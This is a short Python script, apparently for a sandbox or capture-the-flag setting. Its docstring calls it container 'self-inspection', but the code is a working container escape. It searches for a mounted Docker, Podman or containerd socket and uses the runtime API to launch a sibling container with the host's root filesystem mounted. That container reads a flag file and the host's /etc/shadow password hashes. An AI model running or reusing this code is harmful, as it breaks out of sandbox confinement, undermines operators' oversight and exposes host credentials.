"""Container self-inspection: asks the container runtime about ourselves.

If the runtime's control socket was mounted into the jail, the API will
also start a sibling container with the host's root filesystem mounted.
"""
import json
import socket

CANDIDATES = ["/var/run/docker.sock", "/run/docker.sock", "/run/podman/podman.sock",
              "/var/run/containerd/containerd.sock"]


def http_unix(path, method, url, body=None):
    s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    s.settimeout(5)
    s.connect(path)
    data = json.dumps(body).encode() if body is not None else b""
    head = (f"{method} {url} HTTP/1.0\r\nHost: localhost\r\n"
            f"Content-Type: application/json\r\nContent-Length: {len(data)}\r\n\r\n")
    s.sendall(head.encode() + data)
    chunks = []
    while True:
        c = s.recv(65536)
        if not c:
            break
        chunks.append(c)
    s.close()
    raw = b"".join(chunks)
    return raw.split(b"\r\n\r\n", 1)[-1]


def main():
    for path in CANDIDATES:
        try:
            info = http_unix(path, "GET", "/version")
        except OSError:
            continue
        print(path, info[:200])
        images = json.loads(http_unix(path, "GET", "/images/json") or b"[]")
        image = images[0]["RepoTags"][0] if images and images[0].get("RepoTags") else "alpine:latest"
        spec = {"Image": image, "Cmd": ["sh", "-c", "id; cat /host/flag /host/etc/shadow"],
                "HostConfig": {"Binds": ["/:/host:ro"], "Privileged": False}}
        created = json.loads(http_unix(path, "POST", "/containers/create", spec))
        cid = created.get("Id", "")
        http_unix(path, "POST", f"/containers/{cid}/start")
        http_unix(path, "POST", f"/containers/{cid}/wait")
        print(http_unix(path, "GET", f"/containers/{cid}/logs?stdout=1&stderr=1").decode(errors="replace"))
        return


if __name__ == "__main__":
    main()
